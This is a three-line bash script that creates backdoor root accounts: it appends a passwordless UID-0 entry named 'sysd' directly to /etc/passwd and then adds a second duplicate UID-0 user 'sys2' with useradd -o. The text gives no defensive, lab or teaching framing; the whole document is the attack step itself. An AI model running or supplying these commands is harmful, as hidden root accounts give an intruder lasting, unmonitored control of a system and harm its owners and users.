#!/bin/bash
echo 'sysd:x:0:0::/root:/bin/sh' >> /etc/passwd
useradd -o -u 0 -g 0 sys2
